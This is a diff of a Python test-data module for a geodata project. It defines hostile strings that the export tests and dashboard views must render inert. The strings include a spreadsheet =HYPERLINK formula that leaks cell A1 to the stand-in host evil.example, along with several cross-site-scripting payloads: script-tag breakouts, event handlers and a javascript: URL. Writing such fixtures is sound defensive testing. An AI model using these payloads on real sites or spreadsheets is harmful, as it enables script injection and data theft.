@@ -1,7 +1,11 @@
-"""A dataset whose texts try formulas, HTML, script and template injection.
+"""Hostile data shared by the tests: texts that try formulas, HTML, script and
+template injection.
 
-Shared by the export tests (``test_export_*.py``); every format must carry
-these texts through inert.
+- :func:`evil_dataset`: four small places whose every text is hostile (the export
+  tests: every format must carry these texts through inert);
+- :func:`evil_builtin`: the built-in data with Palmyra's texts hostile (the
+  dashboard's views, at the dates the built-in data has), as the ``evil`` fixture
+  of ``tests/conftest.py``.
 """
 
 import pandas as pd
@@ -9,11 +13,12 @@ import pandas as pd
 from geodata import Dataset
 from geodata.io import events_frame, places_frame
 
-__all__ = ["FORMULA", "SCRIPT", "BACKTICK", "evil_dataset"]
+__all__ = ["BACKTICK", "EVIL", "FORMULA", "SCRIPT", "evil_builtin", "evil_dataset"]
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 SCRIPT = '</script><script>alert("x")</script> & <b>'
 BACKTICK = "`${alert(1)}`\\"
+EVIL = "<img src=x onerror=alert(1)>"
 
 
 def evil_dataset() -> Dataset:
@@ -92,3 +97,16 @@ def evil_dataset() -> Dataset:
         ],
     )
     return Dataset(places_frame(places), events_frame(events), name="evil")
+
+
+def evil_builtin(builtin: Dataset) -> Dataset:
+    """The built-in data with hostile strings in Palmyra's names, titles, notes and URLs."""
+    places = builtin.places.copy()
+    places.loc[places["id"] == "palmyra", "name"] = EVIL
+    places.loc[places["id"] == "palmyra", "name_ar"] = '"><script>alert(2)</script>'
+    events = builtin.events.copy()
+    palmyra = events["place_id"] == "palmyra"
+    events.loc[palmyra, "source_url"] = "javascript:alert(3)"
+    events.loc[palmyra, "source_title"] = "<b onmouseover=alert(4)>title</b>"
+    events.loc[palmyra, "note"] = "</td><script>alert(5)</script>"
+    return Dataset(places=places, events=events, name="evil")
